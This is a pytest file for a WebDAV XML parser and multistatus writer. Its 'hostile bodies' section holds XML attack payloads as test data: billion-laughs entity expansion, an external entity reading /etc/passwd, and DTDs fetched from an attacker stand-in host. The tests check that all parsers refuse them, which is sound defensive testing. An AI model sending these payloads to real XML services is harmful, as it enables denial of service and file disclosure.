"""newstack/dav/xml.py: request parsing (hostile bodies refused) and Sabre's multistatus output."""

import random
import re
from pathlib import Path

import pytest

from bridge.oc10.formats import dav_encode_path
from newstack.backend import Lock
from newstack.dav.errors import BadRequest, DavError
from newstack.dav.xml import (
    ALLPROP,
    ActiveLock,
    DavResponse,
    LockInfo,
    Multistatus,
    PropRequest,
    RawXml,
    Report,
    dead_value_xml,
    encode_href_path,
    lockdiscovery_xml,
    parse_lockinfo,
    parse_propfind,
    parse_proppatch,
    parse_report,
    render_lock_response,
    render_proppatch,
    tag_names,
    xml_text,
)

SAMPLES = Path(__file__).resolve().parents[3].parent / "shared" / "legacy-oc10" / "samples"
HEAD = (b'<?xml version="1.0"?>\n<d:multistatus xmlns:d="DAV:" xmlns:s="http://sabredav.org/ns"'
        b' xmlns:oc="http://owncloud.org/ns">')
D = "{DAV:}"
OC = "{http://owncloud.org/ns}"
OCS = "{http://open-collaboration-services.org/ns}"


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def compact(xml: bytes) -> bytes:
    """A re-indented sample back in Sabre's one-line form (whitespace between tags dropped)."""
    return re.sub(rb">\s+<", b"><", xml.strip())


# =============================================================================================
# PROPFIND


def test_empty_body_is_allprop():
    assert parse_propfind(b"") == ALLPROP
    assert ALLPROP.is_allprop


def test_prop_names_in_request_order_as_clark_names_once_each():
    body = (b'<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"'
            b' xmlns:x="urn:x"><d:prop><d:resourcetype/><oc:size/><x:custom/><d:getetag/>'
            b"<oc:size/><plain xmlns=\"\"/></d:prop></d:propfind>")
    request = parse_propfind(body)
    assert request == PropRequest("prop", (f"{D}resourcetype", f"{OC}size", "{urn:x}custom",
                                           f"{D}getetag", "{}plain"))
    assert not request.is_allprop


@pytest.mark.parametrize(("body", "kind"), [
    (b'<d:propfind xmlns:d="DAV:"><d:allprop/></d:propfind>', "allprop"),
    (b'<d:propfind xmlns:d="DAV:"><d:propname/></d:propfind>', "propname"),
    (b'<d:propfind xmlns:d="DAV:"><d:prop/></d:propfind>', "prop"),
    (b'<propfind xmlns="DAV:"><prop>\n</prop></propfind>', "prop"),
])
def test_requests_without_names_are_allprop_as_in_sabre(body, kind):
    request = parse_propfind(body)
    assert request.kind == kind
    assert request.is_allprop


def test_default_namespace_and_a_later_prop_element_replacing_an_earlier_one():
    body = (b'<propfind xmlns="DAV:"><prop><getetag/></prop>'
            b'<prop><getlastmodified/><size xmlns="http://owncloud.org/ns"/></prop></propfind>')
    assert parse_propfind(body).props == (f"{D}getlastmodified", f"{OC}size")


@pytest.mark.parametrize("body", [
    b" ", b"not xml", b'<d:propfind xmlns:d="DAV:">', b'<d:prop xmlns:d="DAV:"/>',
    b"<propfind/>",
])
def test_malformed_or_foreign_propfind_bodies_are_bad_requests(body):
    with pytest.raises(BadRequest) as raised:
        parse_propfind(body)
    assert raised.value.status == 400


def test_wrong_root_message_names_both_elements():
    with pytest.raises(BadRequest, match=r"Expected \{DAV:\}propfind but received "
                                         r"\{DAV:\}prop as the root element"):
        parse_propfind(b'<d:prop xmlns:d="DAV:"/>')


# --- hostile bodies ------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<d:propfind xmlns:d="DAV:"><d:prop><d:x>&lol9;</d:x></d:prop></d:propfind>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<d:propfind xmlns:d="DAV:"><d:prop><d:x>&xxe;</d:x></d:prop></d:propfind>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]>
<d:propfind xmlns:d="DAV:"/>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE d:propfind SYSTEM "http://attacker.invalid/x.dtd">
<d:propfind xmlns:d="DAV:"/>"""
INTERNAL_DTD = b"""<!DOCTYPE d:propfind [<!ELEMENT d:propfind ANY>]><d:propfind xmlns:d="DAV:"/>"""
UNDECLARED_ENTITY = b'<d:propfind xmlns:d="DAV:"><d:prop><d:x>&xxe;</d:x></d:prop></d:propfind>'

HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "parameter-entity": PARAMETER_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "internal-dtd": INTERNAL_DTD,
    "undeclared-entity": UNDECLARED_ENTITY,
}
PARSERS = {"propfind": parse_propfind, "proppatch": parse_proppatch,
           "lockinfo": parse_lockinfo, "report": parse_report}


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_bodies_are_refused_by_every_parser(parser, body):
    with pytest.raises(BadRequest) as raised:
        parser(body)
    assert raised.value.status == 400


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtd_refusal_says_so(body):
    with pytest.raises(BadRequest, match="DTDs are refused"):
        parse_propfind(body)


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
def test_bodies_over_one_mib_are_refused_before_parsing(parser):
    body = b'<d:propfind xmlns:d="DAV:">' + b" " * (1 << 20) + b"</d:propfind>"
    with pytest.raises(BadRequest, match="larger than 1 MiB"):
        parser(body)


def test_a_body_of_exactly_one_mib_is_parsed():
    head, tail = b'<d:propfind xmlns:d="DAV:"><d:allprop/>', b"</d:propfind>"
    body = head + b" " * ((1 << 20) - len(head) - len(tail)) + tail
    assert parse_propfind(body) == PropRequest("allprop")


# =============================================================================================
# PROPPATCH

PROPPATCH = """<?xml version="1.0" encoding="utf-8"?>
<d:propertyupdate xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns" xmlns:x="urn:x">
  <d:set><d:prop>
    <oc:favorite>1</oc:favorite>
    <x:note>a &amp; b &lt;c&gt;</x:note>
    <x:rich>text <x:b attr="v&quot;">bold ä</x:b><y:i xmlns:y="urn:y"/></x:rich>
    <x:emptied></x:emptied>
    <x:selfclosed/>
  </d:prop></d:set>
  <d:remove><d:prop><x:gone/><oc:favorite/></d:prop></d:remove>
  <d:set><d:prop><x:note>second</x:note></d:prop></d:set>
</d:propertyupdate>""".encode()


def test_proppatch_mutations_in_document_order_last_value_first_position():
    mutations = parse_proppatch(PROPPATCH)
    assert [name for name, _ in mutations] == [
        f"{OC}favorite", "{urn:x}note", "{urn:x}rich", "{urn:x}emptied", "{urn:x}selfclosed",
        "{urn:x}gone"]
    values = dict(mutations)
    assert values[f"{OC}favorite"] is None  # removed later in the same request
    assert values["{urn:x}note"] == "second"
    assert values["{urn:x}emptied"] == ""
    assert values["{urn:x}selfclosed"] is None  # Sabre reads <x/> as no value: removal
    assert values["{urn:x}gone"] is None


def test_proppatch_text_values_are_unescaped_and_not_raw():
    body = (b'<d:propertyupdate xmlns:d="DAV:" xmlns:x="urn:x"><d:set><d:prop>'
            b"<x:note>a &amp; b &lt;c&gt; &#228;</x:note></d:prop></d:set></d:propertyupdate>")
    ((name, value),) = parse_proppatch(body)
    assert value == "a & b <c> ä"
    assert not isinstance(value, RawXml)
    assert dead_value_xml(value) == "a &amp; b &lt;c&gt; ä"


def test_proppatch_complex_values_keep_libxml_inner_xml():
    value = dict(parse_proppatch(PROPPATCH))["{urn:x}rich"]
    assert isinstance(value, RawXml)
    # each copied element declares what it uses from outside; non-ASCII as char refs
    assert value == ('text <x:b xmlns:x="urn:x" attr="v&quot;">bold &#xE4;</x:b>'
                     '<y:i xmlns:y="urn:y"/>')
    assert dead_value_xml(value) == value


def test_proppatch_inner_xml_with_default_namespace_and_nested_declarations():
    body = (b'<propertyupdate xmlns="DAV:"><set><prop><z xmlns="urn:z">'
            b'<a><b xmlns:q="urn:q" q:k="1">t&#13;</b></a></z></prop></set></propertyupdate>')
    ((name, value),) = parse_proppatch(body)
    assert name == "{urn:z}z"
    assert value == '<a xmlns="urn:z"><b xmlns:q="urn:q" q:k="1">t&#xD;</b></a>'


def test_tag_names_from_an_oc_tags_value():
    body = (b'<d:propertyupdate xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:set><d:prop>'
            b"<oc:tags><oc:tag>one</oc:tag><oc:tag>t&amp;wo</oc:tag></oc:tags>"
            b"</d:prop></d:set></d:propertyupdate>")
    ((_, value),) = parse_proppatch(body)
    assert tag_names(value) == ["one", "t&wo"]
    assert tag_names(None) == []


def test_proppatch_needs_propertyupdate():
    with pytest.raises(BadRequest):
        parse_proppatch(b'<d:propfind xmlns:d="DAV:"/>')


def test_proppatch_response_matches_the_sample():
    body = render_proppatch("/remote.php/dav/", "files/admin/ownCloud Manual.pdf",
                            [(f"{D}getlastmodified", 403), (f"{OC}favorite", 424)])
    assert body == compact(sample("proppatch-207-forbidden-failed-dependency-iossdk.xml")
                           ).replace(b"?><d:multistatus", b"?>\n<d:multistatus") + b"\n"


def test_proppatch_groups_statuses_in_order_of_first_appearance_without_collection_slash():
    body = render_proppatch("/remote.php/webdav/", "Docs",
                            [(f"{OC}favorite", 200), ("{urn:x}a", 403), (f"{OC}tags", 200)])
    assert body == HEAD + (
        b"<d:response><d:href>/remote.php/webdav/Docs</d:href>"
        b"<d:propstat><d:prop><oc:favorite/><oc:tags/></d:prop>"
        b"<d:status>HTTP/1.1 200 OK</d:status></d:propstat>"
        b'<d:propstat><d:prop><x1:a xmlns:x1="urn:x"/></d:prop>'
        b"<d:status>HTTP/1.1 403 Forbidden</d:status></d:propstat>"
        b"</d:response></d:multistatus>\n")


# =============================================================================================
# LOCK


def test_lockinfo_exclusive_with_an_href_owner():
    body = (b'<?xml version="1.0" encoding="utf-8"?><d:lockinfo xmlns:d="DAV:"><d:lockscope>'
            b"<d:exclusive/></d:lockscope><d:locktype><d:write/></d:locktype><d:owner>"
            b"<d:href>http://example.org/~alice</d:href></d:owner></d:lockinfo>")
    assert parse_lockinfo(body) == LockInfo(
        "exclusive", '<d:href xmlns:d="DAV:">http://example.org/~alice</d:href>')


def test_lockinfo_defaults_to_shared_and_keeps_a_text_owner():
    body = (b'<lockinfo xmlns="DAV:"><lockscope><shared/></lockscope>'
            b"<locktype><write/></locktype><owner>alice &amp; bob</owner></lockinfo>")
    assert parse_lockinfo(body) == LockInfo("shared", "alice &amp; bob")
    assert parse_lockinfo(b'<lockinfo xmlns="DAV:"/>') == LockInfo("shared", None)


def test_lock_response_is_indented_like_sabres_service_write():
    lock = ActiveLock("/remote.php/dav/files/alice/a b.txt", "tok-1", "exclusive", -1, 1800,
                      '<d:href xmlns:d="DAV:">http://example.org/~alice</d:href>')
    assert render_lock_response(lock) == (
        b'<?xml version="1.0"?>\n'
        b'<d:prop xmlns:d="DAV:" xmlns:s="http://sabredav.org/ns" '
        b'xmlns:oc="http://owncloud.org/ns">\n'
        b" <d:lockdiscovery>\n"
        b"  <d:activelock>\n"
        b"   <d:lockscope>\n"
        b"    <d:exclusive/>\n"
        b"   </d:lockscope>\n"
        b"   <d:locktype>\n"
        b"    <d:write/>\n"
        b"   </d:locktype>\n"
        b"   <d:lockroot>\n"
        b"    <d:href>/remote.php/dav/files/alice/a b.txt</d:href>\n"
        b"   </d:lockroot>\n"
        b"   <d:depth>infinity</d:depth>\n"
        b"   <d:timeout>Second-1800</d:timeout>\n"
        b"   <d:locktoken>\n"
        b"    <d:href>opaquelocktoken:tok-1</d:href>\n"
        b"   </d:locktoken>\n"
        b"   <d:owner>\n"
        b"    <d:href>http://example.org/~alice</d:href>\n"
        b"   </d:owner>\n"
        b"  </d:activelock>\n"
        b" </d:lockdiscovery>\n"
        b"</d:prop>\n")


def test_lockdiscovery_inside_a_multistatus_is_compact():
    lock = ActiveLock("/remote.php/webdav/", None, "shared", 0, -1, "alice")
    assert lockdiscovery_xml([lock]) == (
        "<d:activelock><d:lockscope><d:shared/></d:lockscope><d:locktype><d:write/>"
        "</d:locktype><d:lockroot><d:href>/remote.php/webdav/</d:href></d:lockroot>"
        "<d:depth>0</d:depth><d:timeout>Infinite</d:timeout><d:owner>alice</d:owner>"
        "</d:activelock>")
    assert lockdiscovery_xml([]) is None


def test_lock_owner_fragment_is_rewritten_with_known_prefixes_and_xn_for_others():
    lock = ActiveLock("/r", "t", owner_xml='<x:who xmlns:x="urn:who" n="1">\n  a</x:who>\n')
    assert "<d:owner><x1:who n=\"1\" xmlns:x1=\"urn:who\">\n  a</x1:who></d:owner>" in (
        lockdiscovery_xml([lock]) or "")


def test_active_lock_from_a_backend_lock_counts_down_the_timeout():
    lock = Lock(token="t", path="a.txt", owner="", scope="shared", depth=0, timeout=600,
                created_at=1000)
    assert ActiveLock.of(lock, "/r/a.txt", now=1100) == ActiveLock(
        "/r/a.txt", "t", "shared", 0, 500, None)
    assert ActiveLock.of(lock, "/r", now=1100, hide_token=True).token is None


# =============================================================================================
# REPORT


def test_filter_files_report():
    body = (b'<?xml version="1.0"?><oc:filter-files xmlns:d="DAV:" '
            b'xmlns:oc="http://owncloud.org/ns"><d:prop><oc:fileid/><d:getetag/><oc:fileid/>'
            b"</d:prop><oc:filter-rules><oc:favorite>0</oc:favorite><oc:systemtag>12"
            b"</oc:systemtag><oc:systemtag>7</oc:systemtag></oc:filter-rules>"
            b"<oc:search><oc:limit> 20x</oc:limit><oc:offset>5</oc:offset></oc:search>"
            b"</oc:filter-files>")
    assert parse_report(body) == Report("filter-files", (f"{OC}fileid", f"{D}getetag"),
                                        favorite=True, systemtags=("12", "7"), limit=20,
                                        offset=5)


def test_search_files_report():
    body = (b'<oc:search-files xmlns:a="DAV:" xmlns:oc="http://owncloud.org/ns"><a:prop>'
            b"<oc:size/></a:prop><oc:search><oc:pattern>plan</oc:pattern><oc:limit>5"
            b"</oc:limit><oc:offset>3</oc:offset></oc:search></oc:search-files>")
    assert parse_report(body) == Report("search-files", (f"{OC}size",), pattern="plan",
                                        limit=5)


def test_unknown_reports_are_not_supported():
    with pytest.raises(DavError) as raised:
        parse_report(b'<d:sync-collection xmlns:d="DAV:"/>')
    assert raised.value.status == 415
    assert b"  <d:supported-report/>\n" in raised.value.body()


# =============================================================================================
# Writing


def test_text_escaping_is_xmlwriters():
    assert xml_text('"a" & <b> \'c\'\r\n\t') == "&quot;a&quot; &amp; &lt;b&gt; 'c'&#13;\n\t"
    assert xml_text("plain") == "plain"


def test_hrefs_are_percent_encoded_lowercase():
    assert encode_href_path("a b/ä+&#%?~()@:.txt") == (
        "a%20b/%c3%a4%2b%26%23%25%3f~()@:.txt")
    assert encode_href_path("abc") == "abc"


def test_href_encoding_agrees_with_formats_on_random_names():
    rng = random.Random(7)
    alphabet = "aZ09 _-.~()/:@!$&'*+,;=?#%[]äöü€\U0001f600\udcff\t"
    for _ in range(500):
        name = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 20)))
        assert encode_href_path(name) == dav_encode_path(name), name


def test_writer_hrefs_have_a_slash_for_collections_and_the_base_for_the_root():
    w = Multistatus("/remote.php/dav/")
    assert w.href("files/alice/Docs & Co", True) == "/remote.php/dav/files/alice/Docs%20%26%20Co/"
    assert w.href("files/alice/a.txt") == "/remote.php/dav/files/alice/a.txt"
    assert w.href("files/alice/", True) == "/remote.php/dav/files/alice/"
    assert Multistatus("/remote.php/webdav/").href("", True) == "/remote.php/webdav/"
    assert Multistatus("/o&c/").href("x") == "/o&amp;c/x"


def test_document_head_and_tail_exactly():
    w = Multistatus("/remote.php/webdav/")
    assert w.start() == HEAD
    assert w.end() == b"</d:multistatus>\n"
    assert w.render([]) == HEAD + b"</d:multistatus>\n"


def test_response_with_200_and_404_propstats():
    w = Multistatus("/remote.php/webdav/")
    text = w.response("Documents", [(f"{D}resourcetype", "<d:collection/>"),
                                    (f"{OC}downloadURL", ""), (f"{OC}share-types", None)],
                      [f"{D}getcontentlength"], collection=True)
    assert text == (
        b"<d:response><d:href>/remote.php/webdav/Documents/</d:href><d:propstat><d:prop>"
        b"<d:resourcetype><d:collection/></d:resourcetype><oc:downloadURL></oc:downloadURL>"
        b"<oc:share-types/></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat>"
        b"<d:propstat><d:prop><d:getcontentlength/></d:prop>"
        b"<d:status>HTTP/1.1 404 Not Found</d:status></d:propstat></d:response>")


def test_adhoc_prefixes_are_numbered_by_first_use_in_the_document_and_declared_each_time():
    w = Multistatus("/remote.php/dav/")
    first = w.response("a", [("{urn:b}two", "2"), (f"{OCS}share-permissions", "19")],
                       ["{urn:a}one", "{urn:b}two2"])
    second = w.response("b", [("{urn:a}one", "1")], [f"{OCS}share-permissions", "{urn:c}new"])
    assert (b'<x1:two xmlns:x1="urn:b">2</x1:two><x2:share-permissions '
            b'xmlns:x2="http://open-collaboration-services.org/ns">19</x2:share-permissions>'
            in first)
    assert b'<x3:one xmlns:x3="urn:a"/><x1:two2 xmlns:x1="urn:b"/></d:prop>' in first
    assert b'<x3:one xmlns:x3="urn:a">1</x3:one>' in second
    assert (b'<x2:share-permissions xmlns:x2="http://open-collaboration-services.org/ns"/>'
            b'<x4:new xmlns:x4="urn:c"/>' in second)
    # a new document starts again at x1
    third = Multistatus("/").response("c", [(f"{OCS}share-permissions", "31")], [])
    assert b"<x1:share-permissions xmlns:x1=" in third


def test_no_namespace_names_and_uris_needing_escapes():
    w = Multistatus("/")
    text = w.response("a", [("{}plain", "v")], ['{urn:a&"b}q'])
    assert b'<plain xmlns="">v</plain>' in text
    assert b'<x1:q xmlns:x1="urn:a&amp;&quot;b"/>' in text


def test_strip_404_and_the_teapot_propstat_of_an_empty_response():
    w = Multistatus("/", strip_404=True)
    assert b"404" not in w.response("a", [(f"{D}getetag", "&quot;e&quot;")], [f"{OC}x"])
    assert w.response("b", [], [f"{OC}x"]) == (
        b"<d:response><d:href>/b</d:href><d:propstat><d:prop/>"
        b"<d:status>HTTP/1.1 418 I'm a teapot</d:status></d:propstat></d:response>")


def test_status_only_and_multi_status_responses():
    w = Multistatus("/r/")
    assert w.status_response("gone", 404) == (
        b"<d:response><d:href>/r/gone</d:href>"
        b"<d:status>HTTP/1.1 404 Not Found</d:status></d:response>")
    assert w.propstats("x", [(424, [(f"{OC}favorite", None)]), (200, [])]) == (
        b"<d:response><d:href>/r/x</d:href><d:propstat><d:prop><oc:favorite/></d:prop>"
        b"<d:status>HTTP/1.1 424 Failed Dependency</d:status></d:propstat></d:response>")


def test_stream_yields_the_same_bytes_in_chunks_as_it_reads():
    entries = [DavResponse(f"files/u/f{i}.txt", [(f"{OC}size", str(i))], [f"{OC}x"])
               for i in range(300)]
    consumed = []

    def lazily():
        for entry in entries:
            consumed.append(entry)
            yield entry

    chunks = Multistatus("/").stream(lazily(), chunk_bytes=4096)
    assert next(chunks) == HEAD
    assert consumed == []  # nothing rendered before it is asked for
    rest = list(chunks)
    assert len(rest) > 3
    assert b"".join([HEAD, *rest]) == Multistatus("/").render(entries)
    assert rest[-1].endswith(b"</d:multistatus>\n")
